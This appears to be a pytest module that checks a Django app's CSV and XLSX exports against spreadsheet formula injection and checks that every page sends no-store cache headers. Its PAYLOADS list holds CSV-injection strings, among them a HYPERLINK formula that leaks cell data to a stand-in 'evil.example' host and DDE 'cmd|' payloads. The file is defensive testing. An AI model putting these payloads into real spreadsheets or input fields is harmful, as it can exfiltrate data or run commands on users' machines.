"""Every file PeerPath writes neutralises spreadsheet formulas (CSV injection), whatever the text.

Two guards: the code writes CSV and XLSX only through `peerpath.core.exports` (the one writer,
which neutralises every cell), and a walk of the demo program, after every free-text field of
every record was overwritten with formula payloads, opens every download each role reaches and
finds no cell that a spreadsheet would run. The same walk checks that every page and download
says `Cache-Control: no-store` (the rule of tests/core/test_no_store.py).
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from peerpath.core.exports import FORMULA_STARTS, csv_bytes, neutralise, xlsx_bytes
from peerpath.core.models import User
from peerpath.programs.models import Program
from peerpath.support.services.matches import run_batch_match
from tests.crawling import crawl, download_views, file_views, fill_every_text_field, is_attachment, no_store
from tests.demo_copy import load_demo
from tests.factories import TESTS

PACKAGE = Path(__file__).resolve().parents[2] / "peerpath"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARK = "cmd|"  # in every payload but the first
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "application/zip")


def is_raw_formula(value: Any) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def cells(content: bytes, content_type: str) -> list[tuple[str, Any]]:
    """(where, value) of every cell in a CSV, an XLSX or a ZIP of CSV files."""
    found: list[tuple[str, Any]] = []
    if "spreadsheetml" in content_type:
        book = load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f":  # openpyxl's mark of a formula cell
                        value = "=" + str(value).lstrip("=")
                    found.append((f"{sheet.title}!{cell.coordinate}", value))
    elif "zip" in content_type:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    found += [(f"{name}:{where}", v) for where, v in cells(archive.read(name), "text/csv")]
    else:
        for r, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")), start=1):
            found += [(f"row {r} column {c}", value) for c, value in enumerate(row, start=1)]
    return found


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def payload_for(record: models.Model, field: str) -> str:
    return PAYLOADS[zlib.crc32(f"{record._meta.label}.{field}".encode()) % len(PAYLOADS)]


def test_the_writer_neutralises_every_cell_headers_included() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
        text = csv_bytes([payload], [[payload, [payload, "x"]]]).decode("utf-8-sig")
        assert all(not is_raw_formula(v) for row in csv.reader(io.StringIO(text, newline="")) for v in row)
        assert all(not is_raw_formula(v) for _w, v in cells(xlsx_bytes([payload], [[payload]]), "spreadsheetml"))
    assert neutralise("-5") == "-5" and neutralise("+1.5") == "+1.5" and neutralise(-5) == -5


WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("xlsxwriter", "Workbook")}


def file_writing_calls(source: str) -> list[int]:
    """Lines that build a CSV writer or a workbook directly."""
    lines = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and node.module:
            if any((node.module.split(".")[0], alias.name) in WRITERS for alias in node.names):
                lines.append(node.lineno)
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in WRITERS:
                lines.append(node.lineno)
        elif isinstance(node, ast.Import) and any(alias.name == "xlsxwriter" for alias in node.names):
            lines.append(node.lineno)
    return lines


def test_only_the_one_writer_writes_csv_or_workbooks() -> None:
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == PACKAGE / "core" / "exports.py" or "migrations" in path.parts:
            continue
        for line in file_writing_calls(path.read_text(encoding="utf-8")):
            offenders.append(f"{path.relative_to(PACKAGE.parent)}:{line}")
    assert not offenders, "Write files of rows through peerpath.core.exports only:\n" + "\n".join(offenders)


def test_the_guard_sees_each_way_of_writing() -> None:
    assert file_writing_calls("import csv\nw = csv.writer(f)")
    assert file_writing_calls("from csv import DictWriter")
    assert file_writing_calls("from openpyxl import Workbook")
    assert file_writing_calls("import openpyxl\nopenpyxl.Workbook()")
    assert not file_writing_calls("import csv\nr = csv.reader(f)\nfrom openpyxl import load_workbook")


# The walk of the demo program as every login, reading every page and download each reaches. It
# runs the checks of both this module and tests/core/test_no_store.py (one walk, not one each).
# A whole-site crawl: CI runs it in the SQLite pass only (files and headers do not depend on the engine).
@pytest.mark.sqlite_only
@pytest.mark.django_db
def test_no_download_carries_a_raw_formula_and_no_page_or_download_may_be_kept() -> None:
    load_demo(io.StringIO())
    demo = Program.objects.get(slug="riverside")
    run_batch_match(actor=TESTS, program=demo)  # a batch-match draft, which the demo leaves none of
    logins = list(User.objects.filter(email__endswith="@riverside.example.org", memberships__is_active=True))
    assert len(logins) >= 4  # a coordinator, a trainer, a supervisor, supporters
    assert fill_every_text_field(payload_for) > 500
    reached: set[str] = set()  # views that answered with a spreadsheet
    downloads: set[str] = set()  # views that answered with any file
    pages = files = neutralised = 0
    problems: list[str] = []
    kept: list[str] = []
    for user in logins:
        client = Client()
        client.force_login(user)
        for visit in crawl(client, "/p/riverside/", "/p/riverside/"):
            response = visit.response
            assert response.status_code < 500, f"{visit.path} failed for {user.email}"
            pages += 1
            if not no_store(response):
                kept.append(f"{visit.path} ({user.email}): {response.get('Cache-Control')!r}")
            if is_attachment(response) or response.has_header("Content-Disposition"):
                downloads.add(visit.view)
            content_type = response.get("Content-Type", "")
            if not (is_attachment(response) and content_type.startswith(SPREADSHEET_TYPES)):
                continue
            reached.add(visit.view)
            files += 1
            for where, value in cells(body(response), content_type):
                if is_raw_formula(value):
                    problems.append(f"{visit.path} ({user.email}) {where}: {value!r}")
                elif isinstance(value, str) and value.startswith("'") and is_raw_formula(value[1:]):
                    neutralised += 1
    assert not problems, "Raw formulas in downloads:\n" + "\n".join(problems[:40])
    assert neutralised > 100, f"only {neutralised} payloads reached the {files} files: the walk saw too little"
    missing = file_views() - reached
    assert not missing, f"Download views the walk never reached (link them, or give the demo data): {missing}"
    # Cache-Control: no-store on every page and every download (tests/core/test_no_store.py).
    assert not kept, "Pages or downloads a browser may keep:\n" + "\n".join(kept[:40])
    assert pages > 100, f"the walk saw only {pages} pages"
    unreached = download_views() - downloads
    assert not unreached, f"Download views the walk never reached (link them, or give the demo data): {unreached}"
